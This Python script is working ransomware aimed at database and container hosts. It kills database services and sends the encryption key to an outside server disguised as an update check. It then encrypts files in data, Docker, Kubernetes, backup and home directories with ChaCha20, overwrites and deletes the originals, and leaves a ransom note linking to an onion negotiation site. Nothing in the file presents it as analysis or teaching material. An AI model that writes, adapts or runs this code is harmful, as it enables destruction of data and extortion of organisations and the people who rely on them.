#!/usr/bin/env python3
"""
Container payload: stop db services, encrypt docker/k8s volumes and dumps,
escrow key, shred originals.
"""
import base64
import logging
import os
import subprocess
import sys
from dataclasses import dataclass, field
from typing import Iterator, List

import requests
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms

log = logging.getLogger("svc")
logging.basicConfig(level=logging.WARNING)


@dataclass
class Config:
    escrow_url: str = "https://api.update-check.site/v1/sync"
    roots: List[str] = field(default_factory=lambda: [
        "/var/lib/postgresql/data", "/var/lib/mysql", "/var/lib/docker/volumes",
        "/var/lib/kubelet/pods", "/data", "/backups", "/srv", "/home"])
    skip_prefixes: tuple = ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin",
                            "/sbin", "/boot", "/etc")
    out_ext: str = ".vault"
    min_size: int = 64
    services: tuple = ("postgres", "mysqld", "mongod", "redis-server")


class Payload:
    def __init__(self, cfg: Config):
        self.cfg = cfg
        self.key = os.urandom(32)
        self.count = 0

    def stop_services(self) -> None:
        for svc in self.cfg.services:
            subprocess.run(["pkill", "-9", "-x", svc],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def escrow(self) -> None:
        r = requests.post(self.cfg.escrow_url, json={
            "n": os.uname().nodename,
            "d": base64.b64encode(self.key).decode()}, timeout=15, verify=False)
        r.raise_for_status()

    def targets(self) -> Iterator[str]:
        for root in self.cfg.roots:
            for dp, dn, fn in os.walk(root):
                if dp.startswith(self.cfg.skip_prefixes):
                    dn.clear()
                    continue
                for f in fn:
                    p = os.path.join(dp, f)
                    if f.endswith(self.cfg.out_ext) or os.path.islink(p):
                        continue
                    try:
                        if os.path.getsize(p) >= self.cfg.min_size:
                            yield p
                    except OSError:
                        continue

    def _shred(self, path: str) -> None:
        size = os.path.getsize(path)
        with open(path, "r+b") as fh:
            for _ in range(2):
                fh.seek(0)
                fh.write(os.urandom(size))
                fh.flush()
                os.fsync(fh.fileno())
        os.unlink(path)

    def transform(self, path: str) -> None:
        nonce = os.urandom(16)
        enc = Cipher(algorithms.ChaCha20(self.key, nonce), mode=None).encryptor()
        with open(path, "rb") as src, open(path + self.cfg.out_ext, "wb") as dst:
            dst.write(nonce)
            while True:
                chunk = src.read(4 * 1024 * 1024)
                if not chunk:
                    break
                dst.write(enc.update(chunk))
            dst.write(enc.finalize())
        self._shred(path)
        self.count += 1

    def drop_note(self) -> None:
        note = ("Your infrastructure has been compromised and all persistent data\n"
                "encrypted with ChaCha20. Backups were destroyed.\n"
                "Negotiate at http://n3gotiat3xq4ltd.onion/chat  ref=%s\n"
                % os.uname().nodename)
        for r in self.cfg.roots:
            if os.path.isdir(r):
                try:
                    with open(os.path.join(r, "ATTENTION.txt"), "w") as fh:
                        fh.write(note)
                except OSError:
                    pass

    def run(self) -> int:
        try:
            self.escrow()
        except Exception as exc:
            log.debug("escrow failed: %s", exc)
            return 1
        self.stop_services()
        for p in self.targets():
            try:
                self.transform(p)
            except Exception:
                continue
        self.drop_note()
        self.key = b"\x00" * 32
        return 0


if __name__ == "__main__":
    sys.exit(Payload(Config()).run())
